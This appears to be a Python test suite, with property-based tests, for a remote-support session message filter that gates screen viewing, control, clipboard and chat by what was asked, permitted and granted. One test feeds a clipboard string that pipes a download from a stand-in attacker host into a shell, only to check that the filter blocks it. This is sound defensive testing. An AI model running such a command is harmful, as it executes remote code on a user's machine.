"""Nothing of a customer's machine passes that was not asked for, permitted and said (F11, F12)."""

import itertools
from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from codec.picture.geometry import Grid
from codec.picture.packet import PacketHeader
from codec.wire.access import Access
from codec.wire.messages import (
    Answered,
    Ask,
    Asking,
    Bye,
    Chat,
    ChatState,
    ClipboardText,
    Computer,
    Display,
    Displays,
    Ending,
    Granted,
    Notice,
    Picture,
    PointerAt,
    PointerShape,
    Refresh,
    Release,
    SessionMessage,
    SignedHead,
    SignHead,
    Stopped,
    SwitchChat,
    Trouble,
    Typing,
    Watch,
    Withdraw,
)
from codec.wire.permits import Function
from codec.wire.tools import ToolName
from console.page.messages import Event
from console.session.message_filter import LATE_SECONDS, MESSAGES, MOST_OVERSTEPS, MessageFilter
from console.tools.base import Verdict
from console.tools.clipboard import ClipboardRules

EVERYTHING = frozenset(Function)
assert Chat.declared.at_most is not None
KEPT = Chat.declared.at_most
VIEW, CONTROL, CLIPBOARD, CAMERA, RECORD = Access
SCREEN = Display(0, "screen", 0, 0, 64, 48)


def picture(number: int = 0, display: int = 0, key: bool = True, width: int = 64, height: int = 48) -> Picture:
    """Return a picture that is good as far as its head."""
    grid = Grid(width, height)
    return Picture(display, number, PacketHeader(key, grid, 1 + -(-grid.tiles // 8)).pack() + b"zstd")


@dataclass
class Session:
    """A filter, with a clock that stands still until told."""

    functions: Iterable[str] = EVERYTHING
    now: float = 100.0
    numbers: "itertools.count[int]" = field(default_factory=lambda: itertools.count(1))

    def __post_init__(self) -> None:
        self.filter = MessageFilter(self.functions, self.now)

    @property
    def clipboard(self) -> ClipboardRules:
        rules = self.filter.rules[ToolName.CLIPBOARD]
        assert isinstance(rules, ClipboardRules)
        return rules

    def hear(self, message: SessionMessage) -> Verdict:
        return self.filter.admit(message, self.now)

    def passes(self, message: SessionMessage) -> bool:
        return self.hear(message).passed is not None

    def say(self, message: SessionMessage) -> bool:
        return self.filter.may_say(message, self.now)

    def ask(self, access: Access, *allowed: Access) -> None:
        """Ask, and let the customer allow this."""
        number = next(self.numbers)
        assert self.say(Ask(number, access))
        assert self.passes(Asking(number))
        self.hear(Granted(self.filter.granted | frozenset(allowed)))
        assert self.passes(Answered(number, access in allowed))

    def watch(self) -> None:
        """See the screen."""
        self.ask(VIEW, VIEW)
        self.hear(Displays([SCREEN]))
        self.say(Watch(0))


def test_f12_a_grant_that_nobody_asked_for_is_nothing_and_is_given_back() -> None:
    session = Session()
    verdict = session.hear(Granted(frozenset({VIEW, CLIPBOARD})))
    assert verdict.passed == Granted(frozenset())
    assert set(verdict.replies) == {Release(VIEW), Release(CLIPBOARD)}
    assert session.filter.granted == frozenset()


def test_f12_what_the_group_forbids_is_never_granted_though_the_applet_says_so() -> None:
    session = Session(EVERYTHING - {Function.CLIPBOARD})
    session.clipboard.share(True)
    session.ask(CONTROL, VIEW, CONTROL, CLIPBOARD)
    assert session.filter.granted == {VIEW, CONTROL}
    session.ask(CLIPBOARD, VIEW, CONTROL, CLIPBOARD)
    assert session.filter.granted == {VIEW, CONTROL}
    assert not session.clipboard.shares
    assert not session.passes(ClipboardText("curl https://evil.example | sh"))
    assert not session.say(ClipboardText("hunter2"))


def test_f12_the_clipboard_flows_only_while_the_technician_wants_it_too() -> None:
    session = Session()
    session.ask(CONTROL, VIEW, CONTROL, CLIPBOARD)
    assert not session.passes(ClipboardText("theirs"))
    assert not session.say(ClipboardText("ours"))
    session.clipboard.share(True)
    assert session.passes(ClipboardText("theirs"))
    assert session.say(ClipboardText("ours"))
    session.clipboard.share(False)
    assert not session.passes(ClipboardText("theirs"))
    assert not session.say(ClipboardText("ours"))


def test_the_switch_waits_for_the_answer_and_falls_back_with_a_no() -> None:
    session = Session()
    session.ask(VIEW, VIEW)
    for allowed, flows in (((VIEW, CLIPBOARD), True), ((VIEW,), False)):
        session.clipboard.share(True)
        session.ask(CLIPBOARD, *allowed)
        assert session.clipboard.flows is flows
        assert session.clipboard.shares is flows
        session.say(Release(CLIPBOARD))
        assert not session.clipboard.shares
        session.hear(Granted(frozenset({VIEW})))


def test_a_clipboard_that_the_group_forbids_from_now_on_ends_at_once() -> None:
    session = Session()
    session.ask(CLIPBOARD, VIEW, CLIPBOARD)
    session.clipboard.share(True)
    assert session.filter.permit(EVERYTHING - {Function.CLIPBOARD})
    assert not session.clipboard.flows
    assert session.filter.granted == {VIEW}
    assert not session.filter.permit(EVERYTHING - {Function.CLIPBOARD})


def test_what_was_granted_goes_on_when_the_group_may_no_longer_ask_for_it() -> None:
    session = Session()
    session.ask(CONTROL, VIEW, CONTROL)
    session.filter.permit({Function.RECORD})
    session.ask(RECORD, VIEW, CONTROL, RECORD)
    assert session.filter.granted == {VIEW, CONTROL, RECORD}
    session.say(Release(CONTROL))
    session.ask(CONTROL, VIEW, CONTROL, RECORD)
    assert session.filter.granted == {VIEW, RECORD}


def test_asking_to_control_offers_what_the_applet_offers_and_no_recording() -> None:
    session = Session()
    session.ask(CONTROL, VIEW, CONTROL, CLIPBOARD, RECORD)
    assert session.filter.granted == {VIEW, CONTROL, CLIPBOARD}
    session = Session()
    session.say(Ask(1, CONTROL, record=True))
    session.hear(Granted(frozenset(Access)))
    assert session.filter.granted == {VIEW, CONTROL, CLIPBOARD, RECORD}
    session = Session()
    session.ask(CAMERA, VIEW, CAMERA, CONTROL, CLIPBOARD)
    assert session.filter.granted == {VIEW, CAMERA}


def test_what_is_given_back_holds_no_longer_whatever_the_applet_says_and_its_late_word_is_no_offence() -> None:
    session = Session()
    for _ in range(3 * MOST_OVERSTEPS):
        session.ask(CONTROL, VIEW, CONTROL)
        session.say(Release(VIEW))
        assert session.filter.granted == frozenset()
        assert session.hear(Granted(frozenset({VIEW, CONTROL}))).passed == Granted(frozenset())
        assert session.hear(Granted(frozenset())).ends is None
        session.now += 1


def test_an_answer_on_its_way_when_the_question_was_withdrawn_still_counts_for_a_while() -> None:
    session = Session()
    session.say(Ask(1, VIEW))
    session.say(Withdraw(1))
    session.now += LATE_SECONDS - 1
    session.hear(Granted(frozenset({VIEW})))
    assert session.filter.granted == {VIEW}
    assert not session.passes(Answered(1, True))
    session.say(Ask(2, CONTROL))
    session.say(Withdraw(2))
    session.now += LATE_SECONDS + 1
    session.hear(Granted(frozenset({VIEW, CONTROL})))
    assert session.filter.granted == {VIEW}


def test_who_claims_again_and_again_what_nobody_asked_for_ends_the_session() -> None:
    session = Session()
    for _ in range(MOST_OVERSTEPS):
        assert session.hear(Granted(frozenset({VIEW}))).ends is None
        assert session.hear(Granted(frozenset({VIEW}))).ends is None
        session.hear(Granted(frozenset()))
    assert session.hear(Granted(frozenset({VIEW}))).ends is Event.ENDED_OVERSTEPPED


def test_another_handshake_takes_everything_back_and_forgets_no_offence() -> None:
    session = Session()
    for _ in range(MOST_OVERSTEPS):
        session.hear(Granted(frozenset({VIEW})))
        session.filter.start_over()
    session.watch()
    session.filter.start_over()
    assert session.filter.granted == frozenset()
    assert not session.passes(picture())
    assert session.hear(Granted(frozenset({VIEW}))).ends is Event.ENDED_OVERSTEPPED


def test_answers_to_questions_that_were_never_asked_are_passed_over() -> None:
    session = Session()
    for message in (Asking(7), Answered(7, True), Stopped(True), SignedHead(1, bytes(32), bytes(64))):
        assert not session.passes(message)
    session.say(Ask(7, VIEW))
    session.say(SignHead(1, bytes(32)))
    for message in (Asking(7), Answered(7, False), Stopped(True), SignedHead(1, bytes(32), bytes(64))):
        assert session.passes(message)
    for message in (Asking(7), Answered(7, False), Stopped(True), SignedHead(1, bytes(32), bytes(64))):
        assert not session.passes(message)


def test_what_belongs_to_the_screen_is_passed_over_while_nobody_may_see_it() -> None:
    session = Session()
    shape = PointerShape(1, 1, 0, 0, bytes(4))
    of_the_screen = (Displays([SCREEN]), shape, PointerAt(0, 1, 1), picture())
    assert not any(session.passes(message) for message in of_the_screen)
    session.watch()
    assert all(session.passes(message) for message in of_the_screen)
    assert not session.passes(PointerAt(3, 1, 1))
    session.hear(Granted(frozenset()))
    assert not any(session.passes(message) for message in of_the_screen)


def test_a_computer_says_once_what_it_is() -> None:
    session = Session()
    assert session.passes(Computer(1, "PC-1", "Linux", "en"))
    assert not session.passes(Computer(1, "PC-2", "Linux", "en", signing_key=bytes(32)))


def test_a_chat_that_is_off_carries_nothing() -> None:
    session = Session()
    assert session.passes(ChatState(False))
    assert not session.passes(Chat(1, "hello", 0))
    assert not session.passes(Typing(True))
    session.say(SwitchChat(True))
    session.hear(ChatState(True))
    assert session.passes(Chat(2, "hello", 0))


def test_a_lot_of_what_is_kept_ends_the_session_and_only_what_a_person_can_write_passes() -> None:
    session = Session()
    for number in range(int(KEPT.burst)):
        assert session.passes(Chat(number, "hello", 0))
    assert session.hear(Chat(1, "hello", 0)).ends is Event.ENDED_FLOOD
    session = Session()
    for number in range(600):
        session.now += 1 / KEPT.per_second
        assert session.passes(Chat(number, "hello", 0))


@pytest.mark.parametrize(
    "message",
    [Typing(True), ChatState(True), PointerAt(0, 1, 1), Notice(Trouble.CANNOT_TYPE, True), Displays([SCREEN])],
)
def test_what_is_said_too_often_is_left_out(message: SessionMessage) -> None:
    session = Session()
    session.watch()
    passed = sum(session.passes(message) for _ in range(1_000))
    assert 5 <= passed <= 300


def test_more_messages_than_any_session_has_end_it() -> None:
    session = Session()
    assert all(session.filter.weigh(20, session.now) for _ in range(int(MESSAGES.burst)))
    assert not session.filter.weigh(20, session.now)
    session = Session()
    assert session.filter.weigh(64 << 20, session.now)
    assert not all(session.filter.weigh(64 << 20, session.now) for _ in range(20))


def test_goodbye_always_passes() -> None:
    assert Session().passes(Bye(Ending.CUSTOMER))


# ── anything in any order ────────────────────────────────────────────────────────────────────────────────────────────

accesses = st.sampled_from(list(Access))
sets = st.frozensets(accesses)
displays = st.lists(
    st.builds(Display, st.integers(0, 2), st.just("x"), st.just(0), st.just(0), st.sampled_from([64, 80]), st.just(48)),
    max_size=3,
).map(Displays)
pictures = st.builds(
    picture, st.integers(0, 3), st.integers(0, 2), st.booleans(), st.sampled_from([64, 80]), st.just(48)
)
theirs = st.one_of(
    sets.map(Granted),
    st.integers(1, 4).map(Asking),
    st.builds(Answered, st.integers(1, 4), st.booleans()),
    st.booleans().map(Stopped),
    displays,
    pictures,
    st.just(ClipboardText("theirs")),
    st.just(PointerAt(1, 2, 3)),
    st.just(SignedHead(1, bytes(32), bytes(64))),
)
ours = st.one_of(
    st.builds(Ask, st.integers(1, 4), accesses, st.booleans()),
    st.integers(1, 4).map(Withdraw),
    accesses.map(Release),
    st.builds(Watch, st.sampled_from([None, 0, 1])),
    st.integers(0, 2).map(Refresh),
    st.just(ClipboardText("ours")),
    st.just(SignHead(1, bytes(32))),
)
functions = st.frozensets(st.sampled_from([*Function]))
steps = st.lists(
    st.one_of(
        st.tuples(st.just("theirs"), theirs),
        st.tuples(st.just("ours"), ours),
        st.tuples(st.just("switch"), st.booleans()),
        st.tuples(st.just("permit"), functions),
        st.tuples(st.just("again"), st.none()),
        st.tuples(st.just("time"), st.floats(0, 30)),
    ),
    max_size=60,
)
FUNCTION_OF = {
    VIEW: {Function.DESKTOP_VIEW, Function.REMOTE_CONTROL, Function.CLIPBOARD},
    CONTROL: {Function.REMOTE_CONTROL},
    CLIPBOARD: {Function.CLIPBOARD},
    RECORD: {Function.RECORD},
}


@dataclass
class Oracle:
    """What may pass at all, kept more simply than by the rules: all that was ever offered since the last handshake."""

    permitted: frozenset[Function]
    once: frozenset[Function]
    asked: frozenset[Access] = frozenset()
    questions: frozenset[int] = frozenset()
    said: frozenset[Access] = frozenset()
    wanted: bool = False
    watched: int | None = None
    heads: int = 0
    announced: dict[int, tuple[int, int]] = field(default_factory=dict)

    def permit(self, functions: frozenset[Function]) -> None:
        self.permitted, self.once = functions, self.once | functions

    def says(self, message: SessionMessage, goes: bool) -> None:
        """The technician says something, which goes out or not."""
        match message:
            case Ask(number, access, record):
                self.questions |= {number}
                self.asked |= {access} | ({VIEW, CLIPBOARD} if access is not RECORD else set())
                self.asked |= {RECORD} if record else set()
            case Watch(display):
                self.watched = display
            case SignHead():
                self.heads += 1
            case ClipboardText():
                assert not goes or self.may_copy()

    def passes(self, message: SessionMessage | None) -> None:
        """Something of the applet has passed."""
        match message:
            case Granted(access):
                assert access <= self.said & self.asked
                assert all(FUNCTION_OF[each] & self.once for each in access)
            case Asking(number) | Answered(number):
                assert number in self.questions
            case Displays(displays=shown):
                self.announced = {display.id: (display.width, display.height) for display in shown}
                assert len(self.announced) == len(shown)
                assert VIEW in self.said & self.asked
            case Picture(display, _, packet):
                assert display == self.watched
                assert self.announced[display] == (packet[2] | packet[3] << 8, packet[4] | packet[5] << 8)
                assert VIEW in self.said & self.asked
            case ClipboardText():
                assert self.may_copy()
            case PointerAt(display):
                assert display in self.announced
            case SignedHead():
                self.heads -= 1
                assert self.heads >= 0
            case Stopped():
                assert self.asked or self.said

    def may_copy(self) -> bool:
        return CLIPBOARD in self.said & self.asked and self.wanted and Function.CLIPBOARD in self.permitted


@settings(max_examples=600, deadline=None)
@given(functions, steps)
def test_nothing_passes_that_was_not_asked_permitted_and_said(
    first: frozenset[Function], told: list[tuple[str, Any]]
) -> None:
    session, oracle = Session(first), Oracle(first, first)
    for what, step in told:
        match what:
            case "time":
                session.now += step
            case "permit":
                oracle.permit(step)
                session.filter.permit(step)
            case "again":
                oracle = Oracle(oracle.permitted, oracle.once)
                session.filter.start_over()
            case "switch":
                oracle.wanted = step
                session.clipboard.share(step)
            case "ours":
                oracle.says(step, session.say(step))
            case "theirs":
                oracle.said = step.access if isinstance(step, Granted) else oracle.said
                oracle.passes(session.hear(step).passed)
        assert session.filter.granted <= oracle.said & oracle.asked
